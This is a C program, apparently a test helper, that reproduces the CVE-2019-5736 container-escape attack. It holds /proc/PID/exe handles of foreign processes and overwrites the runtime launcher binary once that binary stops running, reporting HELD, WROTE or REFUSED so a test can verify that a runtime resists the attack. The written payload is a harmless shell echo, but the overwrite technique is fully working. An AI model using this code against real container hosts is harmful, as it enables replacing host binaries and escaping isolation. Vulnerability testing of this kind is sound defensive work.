/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attack of CVE-2019-5736, from inside a container: hold the file behind /proc/PID/exe of whatever appears that is
 * not ours, and write over it as soon as it does not run any more. Reports what it saw; the test compares the
 * launcher's digest. overwrite SECONDS, or until there is a file /stop: HELD, WROTE or REFUSED per file; "ready" on
 * stdout when the hunt begins
 */
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 32

static const char text[] = "#!/bin/sh\necho OVERWRITTEN\n";

struct held {
    dev_t dev;
    ino_t ino;
    int fd; /* -1: done with */
};

static struct held held[HELD_MAX];
static int n_held;
static struct stat own;

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static bool hold(int pid)
{
    char path[64];
    struct stat st;

    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return errno != ENOENT;
    bool known = fstat(fd, &st) < 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino);
    for (int i = 0; i < n_held && !known; i++)
        known = held[i].dev == st.st_dev && held[i].ino == st.st_ino;
    if (known || n_held == HELD_MAX) {
        close(fd);
        return true;
    }
    held[n_held++] = (struct held){st.st_dev, st.st_ino, fd};
    printf("HELD pid %d size %lld\n", pid, (long long)st.st_size);
    return true;
}

static void write_over(struct held *h, bool last)
{
    char path[64];

    snprintf(path, sizeof path, "/proc/self/fd/%d", h->fd);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        if (!last && errno == ETXTBSY)
            return; /* it still runs: later */
        printf("REFUSED open %s\n", strerror(errno));
    } else if (write(fd, text, sizeof text - 1) < 0) {
        printf("REFUSED write %s\n", strerror(errno));
    } else {
        printf("WROTE\n");
    }
    if (fd >= 0)
        close(fd);
    close(h->fd);
    h->fd = -1;
}

int main(int argc, char **argv)
{
    double end = now() + (argc > 1 ? atof(argv[1]) : 3), turn = 0;
    int self = getpid(), next = self + 1;

    setvbuf(stdout, NULL, _IOLBF, 0);
    if (stat("/proc/self/exe", &own) < 0)
        return perror("/proc/self/exe"), 1;
    printf("ready\n");
    for (int pid = 1; pid < self; pid++)
        hold(pid);
    while (now() < end) {
        /* The next pid, in a tight loop: a launcher on its way to its exec is there for some 100 us. */
        for (int i = 0; i < 2000; i++)
            for (int ahead = 0; ahead < 3; ahead++)
                if (hold(next + ahead) && ahead)
                    next += ahead;
        if (now() - turn < 0.05)
            continue;
        turn = now();
        if (access("/stop", F_OK) == 0)
            break;
        for (int i = 0; i < n_held; i++)
            if (held[i].fd >= 0)
                write_over(&held[i], false);
        for (int pid = next; pid < next + 16; pid++) {
            char path[32];
            snprintf(path, sizeof path, "/proc/%d", pid);
            if (access(path, F_OK) == 0)
                next = pid;
        }
    }
    for (int i = 0; i < n_held; i++)
        if (held[i].fd >= 0)
            write_over(&held[i], true);
    return 0;
}
